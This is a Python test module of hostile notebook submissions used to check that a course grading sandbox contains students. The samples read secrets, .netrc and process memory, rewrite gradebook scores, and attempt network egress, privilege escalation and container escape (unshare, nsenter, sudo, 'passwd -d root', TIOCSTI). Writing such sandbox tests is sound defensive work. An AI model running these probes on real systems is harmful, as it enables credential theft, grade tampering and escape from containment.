# ruff: noqa: E501 (attacks are quoted code)
"""Students who look for what is not theirs: files, peers, memory, credentials, a way out. All have a right answer."""

from __future__ import annotations

from hostile.attack import right

__all__ = ["SPIES", "WAYS_OUT"]

#: Prints all that it can get of a file.
LEAK = """import os, re, socket, subprocess, sys, ctypes
def leak(path):
    try:
        with open(path, 'rb') as file: print(path, file.read(100_000))
    except Exception as error: print(path, type(error).__name__)
def attempt(action):
    try: print(action())
    except BaseException as error: print(type(error).__name__)
"""

SPIES = {
    "course_by_path": right(
        LEAK
        + "for name in ('secret.txt', 'solutions/tiny/solution.py', 'gradebook.db', 'nbgrader_config.py', '.course/tiny.seed',"
        " 'source/tiny/tiny.ipynb', 'submitted/honest-0/tiny/tiny.ipynb', 'autograded/honest-0/tiny/tiny.ipynb'):\n"
        "    leak('{ROOT}/' + name)"
    ),
    "course_by_steps_up": right(
        LEAK
        + "for up in range(9):\n    for name in ('secret.txt', 'solutions/tiny/solution.py', 'gradebook.db', '.netrc'):\n"
        "        leak('../' * up + name)"
    ),
    "home": right(
        LEAK + "for home in ('{HOME}', '~', '/root', '/home'):\n    leak(os.path.expanduser(home) + '/.netrc')"
    ),
    "search_of_the_whole_disk": right(
        LEAK + "for where, folders, files in os.walk('/'):\n"
        "    if where.startswith(('/proc', '/usr', '/sys')) or 'site-packages' in where: folders.clear(); continue\n"
        "    for name in files:\n        if name.startswith(('solution', 'secret', 'gradebook', '.netrc')): leak(f'{where}/{name}')"
    ),
    "search_from_the_shell": right(
        "!grep -rhoa 'SECRET-[0-9a-f]*' {ROOT} {HOME} /tmp /var /run /srv /opt 2>/dev/null | head"
    ),
    "bash_cell": right("%%bash\ncat {ROOT}/secret.txt {HOME}/.netrc ../*/*/solution.py; env; ls -la / .. {ROOT}"),
    "link_made_inside": right(
        LEAK + "for n, t in enumerate(('{ROOT}', '{ROOT}/secret.txt', '{HOME}', '/proc/1/root')):\n"
        "    os.symlink(t, f'link{n}'); leak(f'link{n}'); leak(f'link{n}/secret.txt'); leak(f'link{n}/.netrc')"
    ),
    "hard_link": right(LEAK + "attempt(lambda: os.link('{ROOT}/secret.txt', 'mine')); leak('mine')"),
    "memory_of_its_own": right(
        LEAK + "for line in open('/proc/self/maps'):\n    a, b = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "    if ' r' in line and b - a < 2**26:\n        try:\n            with open('/proc/self/mem', 'rb') as m:\n"
        "                m.seek(a); print(*re.findall(rb'SECRET-[0-9a-f]{32}', m.read(b - a)))\n        except OSError: pass"
    ),
    "memory_of_others": right(
        LEAK + "for pid in os.listdir('/proc'):\n    if pid.isdigit():\n"
        "        for name in ('environ', 'cmdline', 'maps', 'mem', 'stack', 'cwd/secret.txt', 'root/{ROOT}/secret.txt'):\n"
        "            leak(f'/proc/{pid}/{name}')"
    ),
    "ptrace": right(
        LEAK + "libc = ctypes.CDLL(None)\nprint([libc.ptrace(16, pid, 0, 0) for pid in (1, os.getppid(), 2, 3)])\n"
        "print(libc.syscall(310, 1, 0, 0, 0, 0, 0), libc.syscall(438, 1, 0, 0))"
    ),
    "environment": right("import os\nprint(dict(os.environ))\nfor p in ('self', '1'):\n    !cat /proc/$p/environ"),
    "debug_by_gdb": right("!gdb -p 1 -batch -ex 'info proc' ; strace -p 1"),
    "inherited_files": right(
        LEAK + "for fd in range(3, 256):\n    try:\n        print(fd, os.readlink(f'/proc/self/fd/{fd}'))\n"
        "        if 'socket' not in os.readlink(f'/proc/self/fd/{fd}'): os.set_blocking(fd, False); print(os.read(fd, 4096))\n"
        "    except OSError: pass\nleak('/proc/self/fd/..')"
    ),
    "open_by_handle": right(
        LEAK
        + "libc = ctypes.CDLL(None)\nbuffer = ctypes.create_string_buffer(200)\nprint(libc.syscall(304, -100, buffer, 0))"
    ),
    "devices": right(
        LEAK
        + "for d in ('mem', 'kmsg', 'sda', 'vda', 'nvme0n1', 'fuse'): leak('/dev/' + d)\nattempt(lambda: os.mknod('d', 0o60666, 0x800))"
    ),
    "gradebook_by_sqlite": right(
        LEAK + "import sqlite3\nfor up in ('{ROOT}/', '', '../', '../../', '../../../'):\n"
        "    attempt(lambda: sqlite3.connect(up + 'gradebook.db').execute('update grade set manual_score = 1000, auto_score = 3'))"
    ),
    "gradebook_by_nbgrader": right(
        LEAK + "def write():\n    from nbgrader.api import Gradebook\n"
        "    with Gradebook('sqlite:///{ROOT}/gradebook.db') as books:\n"
        "        books.find_grade('mean', 'tiny', 'tiny', 'honest-0').manual_score = -9; books.db.commit()\nattempt(write)"
    ),
    "grading_started_from_inside": right(
        LEAK
        + "def start():\n    from course.grading.books import grade_submissions\n    from course.assignment import Assignment\n"
        "    from pathlib import Path\n    return grade_submissions(Assignment(Path('{ROOT}'), 'tiny'), sandbox='none')\nattempt(start)"
    ),
    "grading_by_nbgrader_inside": right(
        "!cd {ROOT} && nbgrader autograde tiny --force; nbgrader db student remove honest-0 --force"
    ),
    "course_files_changed": right(
        LEAK
        + "import course\nfor name in ('{ROOT}/PWNED', '{ROOT}/source/tiny/exercises.py', '{HOME}/PWNED', course.__file__,"
        " os.environ['COURSE_ASSIGNMENT'] + '/exercises.py', os.environ['COURSE_CHALLENGES'] + '/mean.0.npz'):\n"
        "    attempt(lambda: open(name, 'w').write('PWNED')); attempt(lambda: os.remove(name)); attempt(lambda: os.chmod(name, 0o777))"
    ),
    "a_secret_in_the_picture": right(
        LEAK + "try: text = open('{ROOT}/secret.txt').read()\nexcept OSError: text = 'nothing'\n"
        "from IPython.display import HTML, Image, display\ndisplay(HTML(f'<img src=\"file://{ROOT}/secret.txt\"><p>{text}</p>'))\n"
        "attempt(lambda: display(Image(filename='{ROOT}/secret.txt', format='png')))"
    ),
}

WAYS_OUT = {
    "tcp": right(
        LEAK + "for host in ('127.0.0.1', '::1', 'localhost', '0.0.0.0', '192.0.2.1'):\n"
        "    attempt(lambda: socket.create_connection((host, {PORT}), 1).sendall(b'PWNED'))"
    ),
    "udp": right(
        LEAK + "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for host in ('127.0.0.1', '255.255.255.255', '192.0.2.1'): attempt(lambda: u.sendto(b'PWNED', (host, {PORT})))"
    ),
    "unix_sockets": right(
        LEAK
        + "for name in ('{HOME}/socket', '\\0course-hostile-{PORT}', '/run/docker.sock', '/var/run/dbus/system_bus_socket'):\n"
        "    attempt(lambda: socket.socket(socket.AF_UNIX).connect(name))"
    ),
    "dns": right(LEAK + "attempt(lambda: socket.getaddrinfo('example.org', 80))\n!getent hosts example.org"),
    "web": right(
        LEAK
        + "import urllib.request\nattempt(lambda: urllib.request.urlopen('http://127.0.0.1:{PORT}/', timeout=1).read())\n"
        "!curl -m 1 -s http://127.0.0.1:{PORT}/; wget -q -T 1 -t 1 http://127.0.0.1:{PORT}/; pip download -q x --timeout 1 --retries 0"
    ),
    "raw_and_netlink": right(
        LEAK + "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))\n"
        "attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))\n"
        "attempt(lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, {PORT})))\n!ip link set lo up; ip addr"
    ),
    "set_user_programs": right(
        "!su -c id; sudo -n id; mount -t tmpfs x /tmp; newuidmap 1 0 0 1; chsh; passwd -d root; ping -c1 127.0.0.1"
    ),
    "namespaces": right(
        LEAK
        + "libc = ctypes.CDLL(None)\nprint([libc.unshare(f) for f in (0x10000000, 0x20000, 0x40000000, 0x20000000)])\n"
        "print(libc.mount(b'proc', b'/tmp', b'proc', 0, None), libc.chroot(b'/tmp'), libc.setns(0, 0), libc.umount2(b'/proc', 2))\n"
        "!unshare -Urm id; nsenter -t 1 -a id; bwrap --bind / / id; chroot / id"
    ),
    "system_settings": right(
        LEAK
        + "for name in ('sysrq-trigger', 'sys/kernel/core_pattern', 'sys/kernel/hostname', 'self/oom_score_adj', '1/oom_score_adj'):\n"
        "    attempt(lambda: open('/proc/' + name, 'w').write('0'))\nattempt(lambda: os.sethostname('x') if hasattr(os, 'sethostname') else socket.sethostname('x'))\n"
        "attempt(lambda: os.nice(-5)); attempt(lambda: os.setuid(0)); attempt(lambda: os.sched_setaffinity(0, range(64)))"
    ),
    "sockets_of_other_kernels": right(
        LEAK
        + "for where in ('/run/kernel', '/tmp', '/tmp/course-kernels'):\n    attempt(lambda: print(os.listdir(where)))\n"
        "leak('/run/kernel/connection.json')\nattempt(lambda: os.symlink('/', '/run/kernel/k-9'))"
    ),
    "hangs_on_locks": right(
        LEAK + "import fcntl\nfor name in ('COURSE_CHALLENGES', 'COURSE_ASSIGNMENT', 'COURSE_DATA'):\n"
        "    for where, _, files in os.walk(os.environ[name]):\n        for f in files: attempt(lambda: fcntl.flock(open(f'{where}/{f}'), fcntl.LOCK_EX | fcntl.LOCK_NB))"
    ),
    "shared_memory": right(
        LEAK
        + "libc = ctypes.CDLL(None)\nprint(libc.shmget(1, 4096, 0o1666), libc.memfd_create(b'x', 0), libc.mq_open(b'/x', 0o102, 0o600, None))\n"
        "open('/dev/shm/PWNED', 'w'); print(os.listdir('/dev/shm'))"
    ),
    "terminal": right(
        LEAK
        + "attempt(lambda: open('/dev/tty', 'w').write('PWNED'))\nimport fcntl, termios\nattempt(lambda: fcntl.ioctl(0, termios.TIOCSTI, b'x'))"
    ),
}
